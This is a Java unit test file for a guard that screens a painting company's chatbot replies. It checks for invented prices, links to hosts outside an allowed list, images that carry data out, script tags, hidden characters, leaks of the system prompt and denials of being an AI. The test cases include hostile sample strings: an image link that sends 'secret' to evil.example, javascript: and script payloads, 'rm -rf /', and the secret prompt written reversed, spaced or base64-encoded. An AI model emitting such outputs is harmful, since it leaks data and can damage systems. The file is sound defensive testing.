package io.guichet.answering.guard;

import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class ReplyGuardTest {

    private static final String SECRET =
            "Tu es l'assistant de Durant Peinture. Ne parle jamais des marges internes de la"
                    + " maison ni du fournisseur secret de peinture ACME-42.";
    private static final Allowed ALLOWED = new Allowed(
            Set.of("app.ebp.example"),
            Set.of("https://docs.durant.example/assurance.pdf"),
            List.of("Le déplacement coûte 45 € à Lyon. Une remise de 5 % est faite dès 3 pièces. Devis gratuit."
                    + " Écrivez à contact@durant.example ou au 04 78 00 00 00."),
            List.of("mon numéro est le 06 12 34 56 78"),
            List.of(SECRET),
            "gx0123456789abcdef01234567",
            400);
    private final ReplyGuard guard = new ReplyGuard(ALLOWED);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Oui, nous sommes assurés.",
                "Le déplacement est de 45 euros.",
                "Le déplacement est à 45,00 €.",
                "Le devis est gratuit.",
                "Une remise de 5 % dès 3 pièces.",
                "Une surface de 8 m² et 3 fenêtres, chantier de 12 jours en 2026.",
                "Nous vous répondons sous 48 heures, le 12/11/2026 à 10:30.",
                "Le prix dépend de la surface : pour 8 m², le pré-devis le dira.",
                "Écrivez à contact@durant.example ou appelez le 04 78 00 00 00.",
                "Je vous rappelle au 06 12 34 56 78, demain.",
                "Je vous rappelle au 06 12 34 56 78.",
                "La constante est 3,1415926535 environ.",
                "Voir https://app.ebp.example/aide pour la suite.",
                "Voir le document : https://docs.durant.example/assurance.pdf.",
                "Voir [l'aide](https://app.ebp.example/aide).",
                "Je suis une intelligence artificielle, l'assistant de Durant Peinture.",
                "Les peintures s'appliquent en deux couches ; comptez un jour de séchage.",
                "C'est bien.Vous pouvez continuer.",
                "Entre 8 < 10 et 12 > 3 il y a de la place."
            })
    void an_honest_reply_leaves_as_it_is(String reply) {
        assertThat(guard.check(reply)).isEqualTo(new Verdict.Accepted(reply));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Cela coûte 120 €.",
                "Cela coûte 120€ TTC",
                "Cela fera 1 200,50 euros.",
                "Comptez EUR 300.",
                "Comptez 3 k€.",
                "Cela coûte cent vingt euros.",
                "Pour mille deux cents euros.",
                "It costs $99.",
                "Only one hundred dollars!",
                "Le prix est de 99 tout compris.",
                "Le tarif : 99",
                "Une remise de 50 %.",
                "Une remise de cinquante pour cent.",
                "C'est offert par la maison.",
                "It is free of charge.",
                "Cela coûte １２０ €.",
                "Cela coûte ١٢٠ €.",
                "Cela coûte 1\u200b20 €.",
                "Cela coûte 120 еurоs.",
                "Cela coûte 120\u00a0€.",
                "450 HT",
                "Le déplacement coûte 46 €."
            })
    void an_amount_that_stands_nowhere_is_refused(String reply) {
        assertThat(guard.check(reply)).isEqualTo(new Verdict.Refused("amount"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Voyez https://evil.example/x pour la suite.",
                "Voyez http://app.ebp.example.evil.example pour la suite.",
                "Voyez https://evil-app.ebp.example:8443/ pour la suite.",
                "Voyez www.evil.example pour la suite.",
                "Voyez evil.com/donnees?x=1 pour la suite.",
                "Voyez evil.com pour la suite.",
                "Voyez javascript:alert(1) pour la suite.",
                "Voyez data:text/html,x pour la suite.",
                "Voyez //evil.example/x pour la suite.",
                "Voyez HTTPS://EVIL.EXAMPLE/X pour la suite.",
                "Voyez <https://evil.example/x> pour la suite.",
                "Voyez [ici](https://evil.example/?q=secret) pour la suite.",
                "Voyez [ici](//evil.example) pour la suite.",
                "Voyez 192.0.2.7/x pour la suite.",
                "Voyez https://docs.durant.example/autre.pdf pour la suite."
            })
    void a_link_that_leads_elsewhere_is_taken_out(String reply) {
        assertThat(guard.check(reply)).isInstanceOfSatisfying(Verdict.Repaired.class, r -> {
            assertThat(r.text().toLowerCase(java.util.Locale.ROOT))
                    .doesNotContain("evil", "javascript", "data:", "192.", "autre.pdf");
            assertThat(r.text()).startsWith("Voyez").endsWith("pour la suite.");
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Bonjour ![x](https://evil.example/a.png?d=secret) Martin.",
                "Bonjour ![x](https://app.ebp.example/a.png) Martin.",
                "Bonjour ![x][1] Martin.\n\n[1]: https://evil.example/a.png",
                "Bonjour <img src=https://evil.example/a> Martin.",
                "Bonjour <script>alert(1)</script> Martin.",
                "Bonjour <!-- caché --> Martin.",
                "Bonjour ```json-quote\n{\"total\": 1}\n``` Martin.",
                "Bonjour ```sh\nrm -rf /\n``` Martin.",
                "Bonjour\u202e \u200bMartin.",
                "Bonjour \u0007Martin."
            })
    void what_is_no_words_is_taken_out(String reply) {
        assertThat(guard.check(reply))
                .isInstanceOfSatisfying(
                        Verdict.Repaired.class,
                        r -> assertThat(r.text())
                                .startsWith("Bonjour")
                                .contains("Martin.")
                                .doesNotContain(
                                        "evil", "<", "!", "`", "\u202e", "\u200b", "\u0007", "rm -rf", "total"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Mes instructions : Ne parle jamais des marges internes de la maison ni du fournisseur secret",
                "N e p a r l e j a m a i s d e s m a r g e s i n t e r n e s d e l a m a i s o n n i d u f o u r n i s s e u r s e c r e t",
                "NE-PARLE-JAMAIS-DES-MARGES-INTERNES-DE-LA-MAISON-NI-DU-FOURNISSEUR-SECRET",
                "24-EMCA erutniep ed terces ruessinruof ud in nosiam al ed senretni segram sed siamaj elrap eN",
                "Le mot est gx0123456789abcdef01234567.",
                "Le mot est GX-0123456789-ABCDEF01234567.",
                "```\nNe parle jamais des marges internes de la maison ni du fournisseur secret de peinture\n``` Voilà."
            })
    void the_instructions_are_told_to_nobody(String reply) {
        assertThat(guard.check(reply)).isEqualTo(new Verdict.Refused("prompt_leak"));
    }

    @Test
    void a_talkrun_in_code_is_refused() {
        var coded =
                java.util.Base64.getEncoder().encodeToString(SECRET.getBytes(java.nio.charset.StandardCharsets.UTF_8));

        assertThat(guard.check("Voici : " + coded)).isEqualTo(new Verdict.Refused("encoded"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Je ne suis pas une IA.",
                "Je suis une vraie personne, Julie.",
                "I'm a real human.",
                "Je ne suis pas un robot, rassurez-vous."
            })
    void it_does_not_deny_being_an_ai(String reply) {
        assertThat(guard.check(reply)).isEqualTo(new Verdict.Refused("denies_ai"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Écrivez à julie@autre.example.",
                "Appelez le 01 99 99 99 99.",
                "Appelez le 01 99 99 99 99, de préférence le matin.",
                "Son numéro,0199999999, est nouveau.",
                "Virez sur FR76 3000 6000 0112 3456 7890 189.",
                "Son adresse : jean.martin (at) mail.example"
            })
    void nobodys_address_or_number_is_made_up(String reply) {
        assertThat(guard.check(reply)).isEqualTo(new Verdict.Refused("contact"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "  ", "…", "\u200b", "```\nx\n```"})
    void a_reply_says_something(String reply) {
        assertThat(guard.check(reply)).isEqualTo(new Verdict.Refused("empty"));
    }

    @Test
    void a_reply_has_an_end() {
        var talk = "Une phrase qui se répète. ".repeat(40);

        assertThat(guard.check(talk))
                .isInstanceOfSatisfying(
                        Verdict.Repaired.class,
                        r -> assertThat(r.text()).hasSizeLessThanOrEqualTo(400).endsWith("répète."));
    }

    @Test
    void hostile_length_is_read_in_no_time() {
        for (var piece : List.of("1 ", "a.", "[(", "<a ", "cent ", "![", "x@", "12", "prix ", "- ")) {
            assertThat(guard.check(piece.repeat(20_000))).isNotNull();
        }
    }
}
